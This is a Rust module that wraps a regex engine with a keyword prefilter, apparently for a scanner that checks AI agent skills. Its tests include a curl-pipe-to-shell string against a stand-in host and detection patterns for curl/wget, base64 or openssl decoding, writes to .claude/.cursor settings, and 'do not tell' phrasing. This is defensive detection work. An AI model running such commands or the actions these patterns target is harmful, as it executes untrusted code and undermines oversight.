//! The regex type of the rules: the regex crate's own engine (`regex_automata::meta`, which is
//! what `regex::Regex` wraps), built straight from the rewritten syntax tree of
//! [`super::exec::ascii_regex`] instead of from that tree printed back to a pattern and parsed
//! again. Parsing and translating the printed patterns was a third of building the rules, a
//! cost every `add` paid before its first skill was judged.
//!
//! The API is the subset of `regex::Regex` the rules use, with the same meaning (leftmost-first
//! matches, UTF-8 boundaries for empty matches, `$1` in replacements), so a rule reads as it
//! would with the regex crate.

use std::borrow::Cow;

use regex_automata::meta;
use regex_automata::util::captures;

/// A compiled rule regex.
#[derive(Debug, Clone)]
pub struct Regex {
    re: meta::Regex,
    /// Words one of which every match holds (ASCII case folded), looked for before the regex
    /// runs; `None` when the pattern needs no such word ([`needed`]).
    screen: Option<aho_corasick::AhoCorasick>,
}

/// A match in a haystack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Match<'h> {
    haystack: &'h str,
    start: usize,
    end: usize,
}

impl<'h> Match<'h> {
    fn of(haystack: &'h str, span: regex_automata::Span) -> Match<'h> {
        Match {
            haystack,
            start: span.start,
            end: span.end,
        }
    }

    pub fn start(&self) -> usize {
        self.start
    }

    pub fn end(&self) -> usize {
        self.end
    }

    pub fn range(&self) -> std::ops::Range<usize> {
        self.start..self.end
    }

    pub fn as_str(&self) -> &'h str {
        &self.haystack[self.start..self.end]
    }

    pub fn len(&self) -> usize {
        self.end - self.start
    }

    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }
}

/// The groups of one match.
#[derive(Debug, Clone)]
pub struct Captures<'h> {
    haystack: &'h str,
    caps: captures::Captures,
}

impl<'h> Captures<'h> {
    /// Group `i` (0: the whole match), if it took part in the match.
    pub fn get(&self, i: usize) -> Option<Match<'h>> {
        self.caps
            .get_group(i)
            .map(|span| Match::of(self.haystack, span))
    }

    /// The group named `name`, if it took part in the match.
    pub fn name(&self, name: &str) -> Option<Match<'h>> {
        self.caps
            .get_group_by_name(name)
            .map(|span| Match::of(self.haystack, span))
    }

    /// Every group, in order, `None` for those that took no part.
    pub fn iter(&self) -> impl Iterator<Item = Option<Match<'h>>> + '_ {
        self.caps
            .iter()
            .map(|span| span.map(|span| Match::of(self.haystack, span)))
    }

    pub fn len(&self) -> usize {
        self.caps.group_len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl std::ops::Index<usize> for Captures<'_> {
    type Output = str;

    /// Group `i`'s text; panics if it took no part, as the regex crate does.
    fn index(&self, i: usize) -> &str {
        self.get(i)
            .map_or_else(|| panic!("no group at index '{i}'"), |m| m.as_str())
    }
}

impl std::ops::Index<&str> for Captures<'_> {
    type Output = str;

    /// Group `name`'s text; panics if it took no part, as the regex crate does.
    fn index(&self, name: &str) -> &str {
        self.name(name)
            .map_or_else(|| panic!("no group named '{name}'"), |m| m.as_str())
    }
}

/// What [`Regex::replace_all`] puts in place of a match.
pub trait Replacer {
    fn append(&mut self, caps: &Captures<'_>, out: &mut String);
}

/// A template: `$N` is group `N`'s text (empty when it took no part), `$$` is `$`, everything
/// else itself.
impl Replacer for &str {
    fn append(&mut self, caps: &Captures<'_>, out: &mut String) {
        let mut rest = *self;
        while let Some(at) = rest.find('$') {
            out.push_str(&rest[..at]);
            let digits = rest[at + 1..]
                .bytes()
                .take_while(u8::is_ascii_digit)
                .count();
            if digits == 0 {
                out.push('$');
                let skip = if rest[at + 1..].starts_with('$') {
                    2
                } else {
                    1
                };
                rest = &rest[at + skip..];
                continue;
            }
            let group: usize = rest[at + 1..at + 1 + digits].parse().unwrap_or(usize::MAX);
            if let Some(m) = caps.get(group) {
                out.push_str(m.as_str());
            }
            rest = &rest[at + 1 + digits..];
        }
        out.push_str(rest);
    }
}

impl<F: FnMut(&Captures<'_>) -> String> Replacer for F {
    fn append(&mut self, caps: &Captures<'_>, out: &mut String) {
        out.push_str(&self(caps));
    }
}

impl Regex {
    /// The regex of `hir` (a pattern parsed and rewritten by `ascii_regex`), with the screen of
    /// the words its matches need ([`needed`]).
    pub fn from_hir(hir: &regex_syntax::hir::Hir) -> Result<Regex, Box<meta::BuildError>> {
        let re = meta::Regex::builder()
            .build_from_hir(hir)
            .map_err(Box::new)?;
        let screen = needed(hir).and_then(|words| {
            aho_corasick::AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(&words)
                .ok()
        });
        Ok(Regex { re, screen })
    }

    /// Whether `haystack` may match: it holds one of the words every match holds. The regex
    /// crate's own prefilter takes literals a pattern starts (or ends) with; these come from
    /// anywhere in the pattern, so that a pattern that starts with a class or with many
    /// spellings (`(>>?|\btee\b|…)[^\n]*\.claude/…`) is not run over text without `.claude`.
    fn may_match(&self, haystack: &str) -> bool {
        self.screen.as_ref().is_none_or(|s| s.is_match(haystack))
    }

    pub fn is_match(&self, haystack: &str) -> bool {
        self.may_match(haystack) && self.re.is_match(haystack)
    }

    pub fn find<'h>(&self, haystack: &'h str) -> Option<Match<'h>> {
        if !self.may_match(haystack) {
            return None;
        }
        self.re
            .find(haystack)
            .map(|m| Match::of(haystack, m.span()))
    }

    pub fn find_iter<'r, 'h>(&'r self, haystack: &'h str) -> impl Iterator<Item = Match<'h>> + 'r
    where
        'h: 'r,
    {
        self.may_match(haystack)
            .then(|| self.re.find_iter(haystack))
            .into_iter()
            .flatten()
            .map(move |m| Match::of(haystack, m.span()))
    }

    pub fn captures<'h>(&self, haystack: &'h str) -> Option<Captures<'h>> {
        if !self.may_match(haystack) {
            return None;
        }
        let mut caps = self.re.create_captures();
        self.re.captures(haystack, &mut caps);
        caps.is_match().then_some(Captures { haystack, caps })
    }

    pub fn captures_iter<'r, 'h>(
        &'r self,
        haystack: &'h str,
    ) -> impl Iterator<Item = Captures<'h>> + 'r
    where
        'h: 'r,
    {
        self.may_match(haystack)
            .then(|| self.re.captures_iter(haystack))
            .into_iter()
            .flatten()
            .map(move |caps| Captures { haystack, caps })
    }

    /// `haystack` with every match replaced (borrowed when nothing matches).
    pub fn replace_all<'h>(&self, haystack: &'h str, mut rep: impl Replacer) -> Cow<'h, str> {
        let mut out = String::new();
        let mut last = 0;
        let mut replaced = false;
        for caps in self.captures_iter(haystack) {
            let Some(whole) = caps.get(0) else {
                continue;
            };
            out.push_str(&haystack[last..whole.start()]);
            rep.append(&caps, &mut out);
            last = whole.end();
            replaced = true;
        }
        if !replaced {
            return Cow::Borrowed(haystack);
        }
        out.push_str(&haystack[last..]);
        Cow::Owned(out)
    }
}

/// Most words a screen holds: past this, the regex crate's own search is as fast.
const MAX_WORDS: usize = 64;

/// What a part of a pattern needs of the text it matches.
#[derive(Debug, Clone)]
enum Need {
    /// It matches exactly one of these strings (ASCII lower-cased).
    Exact(Vec<String>),
    /// Whatever it matches holds one of these strings.
    Holds(Vec<String>),
    /// Nothing can be said.
    Nothing,
}

impl Need {
    /// The strings one of which the text holds, if any can be named (none empty).
    fn words(&self) -> Option<&[String]> {
        match self {
            Need::Exact(w) | Need::Holds(w) if !w.is_empty() && w.iter().all(|w| !w.is_empty()) => {
                Some(w)
            }
            _ => None,
        }
    }

    /// How well `words` screens: the shorter its shortest word, and the more words, the more
    /// text holds one.
    fn rank(words: &[String]) -> (usize, std::cmp::Reverse<usize>) {
        let shortest = words.iter().map(String::len).min().unwrap_or(0);
        (shortest.min(6), std::cmp::Reverse(words.len()))
    }
}

fn dedup(mut words: Vec<String>) -> Vec<String> {
    words.sort_unstable();
    words.dedup();
    words
}

/// The shortest word a screen takes: shorter words are in most text (and in the regex crate's
/// own prefilter), and looking for them first costs more than it spares (measured on
/// trailofbits/skills and 1,000 small skills: words of two bytes or more cost 7 % on the small
/// skills; of four or more, they save 7 % on trailofbits/skills and cost nothing on the others).
const MIN_WORD: usize = 4;

/// The words one of which every match of `hir` holds (ASCII case folded), when they are few
/// and long enough to be rare: the screen of [`Regex::may_match`].
fn needed(hir: &regex_syntax::hir::Hir) -> Option<Vec<String>> {
    let need = need(hir);
    let words = need.words()?;
    (words.len() <= MAX_WORDS && words.iter().all(|w| w.len() >= MIN_WORD)).then(|| words.to_vec())
}

fn need(hir: &regex_syntax::hir::Hir) -> Need {
    use regex_syntax::hir::{Class, HirKind};
    match hir.kind() {
        HirKind::Empty | HirKind::Look(_) => Need::Exact(vec![String::new()]),
        HirKind::Literal(literal) => match std::str::from_utf8(&literal.0) {
            Ok(text) => Need::Exact(vec![text.to_ascii_lowercase()]),
            Err(_) => Need::Nothing,
        },
        HirKind::Class(Class::Unicode(class)) => {
            let count: u32 = class
                .ranges()
                .iter()
                .map(|r| u32::from(r.end()) - u32::from(r.start()) + 1)
                .sum();
            if count > 4 {
                return Need::Nothing;
            }
            let chars = class
                .ranges()
                .iter()
                .flat_map(|r| r.start()..=r.end())
                .map(|c| c.to_ascii_lowercase().to_string());
            Need::Exact(dedup(chars.collect()))
        }
        HirKind::Class(Class::Bytes(_)) => Need::Nothing,
        HirKind::Capture(cap) => need(&cap.sub),
        HirKind::Repetition(rep) => match (rep.min, rep.max, need(&rep.sub)) {
            (1, Some(1), inner) => inner,
            (1.., _, Need::Exact(w) | Need::Holds(w)) => Need::Holds(w),
            _ => Need::Nothing,
        },
        HirKind::Alternation(subs) => {
            let mut exact = true;
            let mut words = Vec::new();
            for sub in subs {
                match need(sub) {
                    Need::Exact(w) => words.extend(w),
                    Need::Holds(w) => {
                        exact = false;
                        words.extend(w);
                    }
                    Need::Nothing => return Need::Nothing,
                }
                if words.len() > MAX_WORDS {
                    return Need::Nothing;
                }
            }
            let words = dedup(words);
            if exact {
                Need::Exact(words)
            } else {
                Need::Holds(words)
            }
        }
        HirKind::Concat(subs) => {
            // Runs of parts that match exact strings are joined (`[Cc][Uu][Rr][Ll]` is `curl`);
            // of the runs and the other parts' needs, the best screen is kept.
            let mut best: Option<Vec<String>> = None;
            let mut consider = |words: Vec<String>| {
                if words.is_empty() || words.iter().any(String::is_empty) {
                    return;
                }
                if best
                    .as_ref()
                    .is_none_or(|b| Need::rank(&words) > Need::rank(b))
                {
                    best = Some(words);
                }
            };
            let mut run: Option<Vec<String>> = Some(vec![String::new()]);
            let mut all_exact = true;
            for sub in subs {
                match need(sub) {
                    Need::Exact(w) => {
                        run = match run.take() {
                            Some(prefixes) if prefixes.len() * w.len() <= MAX_WORDS => Some(
                                prefixes
                                    .iter()
                                    .flat_map(|p| w.iter().map(move |s| format!("{p}{s}")))
                                    .collect(),
                            ),
                            Some(prefixes) => {
                                consider(prefixes);
                                all_exact = false;
                                Some(w)
                            }
                            None => Some(w),
                        };
                    }
                    other => {
                        all_exact = false;
                        if let Some(prefixes) = run.take() {
                            consider(prefixes);
                        }
                        if let Some(w) = other.words() {
                            consider(w.to_vec());
                        }
                    }
                }
            }
            if all_exact {
                return Need::Exact(dedup(run.unwrap_or_default()));
            }
            if let Some(prefixes) = run {
                consider(prefixes);
            }
            best.map_or(Need::Nothing, |w| Need::Holds(dedup(w)))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn re(pattern: &str) -> Regex {
        Regex::from_hir(&regex_syntax::parse(pattern).unwrap()).unwrap()
    }

    /// The same answers as the regex crate, which these rules were written against.
    #[test]
    fn answers_as_the_regex_crate_does() {
        let cases = [
            (
                r"\b(curl|wget)\s+(\S+)",
                "run curl https://x.example/a | sh; wget b",
            ),
            (r"(?P<k>[a-z]+)=(?P<v>\d+)?", "a=1 b= c=3"),
            (r"", "héllo"),
            (r"x*", "axxbé"),
            (r"(a)|(b)", "ab"),
        ];
        for (pattern, hay) in cases {
            let ours = re(pattern);
            let theirs = regex::Regex::new(pattern).unwrap();
            assert_eq!(ours.is_match(hay), theirs.is_match(hay));
            assert_eq!(
                ours.find_iter(hay).map(|m| m.range()).collect::<Vec<_>>(),
                theirs.find_iter(hay).map(|m| m.range()).collect::<Vec<_>>(),
                "{pattern}"
            );
            let groups = |c: &Captures<'_>| c.iter().map(|m| m.map(|m| m.range())).collect();
            let theirs_groups =
                |c: &regex::Captures<'_>| c.iter().map(|m| m.map(|m| m.range())).collect();
            assert_eq!(
                ours.captures_iter(hay)
                    .map(|c| groups(&c))
                    .collect::<Vec<Vec<_>>>(),
                theirs
                    .captures_iter(hay)
                    .map(|c| theirs_groups(&c))
                    .collect::<Vec<Vec<_>>>(),
                "{pattern}"
            );
            assert_eq!(
                ours.replace_all(hay, "<$1>"),
                theirs.replace_all(hay, "<${1}>"),
                "{pattern}"
            );
        }
    }

    #[test]
    fn screens_name_the_words_every_match_holds() {
        let words = |p: &str| needed(&regex_syntax::parse(p).unwrap());
        assert_eq!(words(r"(?i)\bcurl\b"), Some(vec!["curl".into()]));
        assert_eq!(
            words(r"(>>?|\btee\b)[^\n]*\.(claude|cursor)/settings"),
            Some(vec![".claude/settings".into(), ".cursor/settings".into()])
        );
        assert_eq!(
            words(r"(?i)\b(do\s+not|never)\s+tell\b"),
            Some(vec!["tell".into()])
        );
        assert_eq!(
            words(r"\bbase64\s+-d|\bopenssl\s+enc"),
            Some(vec!["base64".into(), "openssl".into()])
        );
        // A word too short to be rare: no screen.
        assert_eq!(words(r"\bbase64\s+-d|\bxxd\s+-r"), None);
        // A branch that needs nothing, an optional word, a class: no screen.
        assert_eq!(words(r"curl|\s+"), None);
        assert_eq!(words(r"(curl)?x"), None);
        assert_eq!(words(r"[a-z]+"), None);
    }

    proptest::proptest! {
        /// A screen never hides a match: whatever the regex finds holds one of its words.
        #[test]
        fn a_screen_never_hides_a_match(
            pieces in proptest::collection::vec(proptest::sample::select(&[
                "a", "b", "c", "abcd", "bcda", "dcba", "cabd", "x", r"\s", r"\b", r"\w", "(", ")",
                "|", "?", "*", "+", "{2}", "[ab]", "[a-c]", "(?i)", "(?i:abcd)", "y",
            ][..]), 1..12),
            hay in "[a-dxyABCDXY _\n]{0,32}",
        ) {
            let pattern = pieces.concat();
            let Ok(hir) = regex_syntax::parse(&pattern) else { return Ok(()) };
            let Ok(ours) = Regex::from_hir(&hir) else { return Ok(()) };
            let Ok(theirs) = regex::Regex::new(&pattern) else { return Ok(()) };
            proptest::prop_assert_eq!(ours.is_match(&hay), theirs.is_match(&hay));
            proptest::prop_assert_eq!(
                ours.find_iter(&hay).map(|m| m.range()).collect::<Vec<_>>(),
                theirs.find_iter(&hay).map(|m| m.range()).collect::<Vec<_>>()
            );
        }
    }

    #[test]
    fn named_groups_and_templates() {
        let r = re(r"(?P<name>[a-z]+)\.(?P<attr>[a-z]+)");
        let c = r.captures("x = os.system").unwrap();
        assert_eq!(&c["name"], "os");
        assert_eq!(&c[2], "system");
        assert_eq!(r.replace_all("a.b c.d", "$2.$1"), "b.a d.c");
        assert_eq!(r.replace_all("a.b", "$$ $9"), "$ ");
        assert!(matches!(r.replace_all("none", ""), Cow::Borrowed("none")));
        assert_eq!(
            r.replace_all("a.b", |c: &Captures<'_>| c[1].to_uppercase()),
            "A"
        );
    }
}
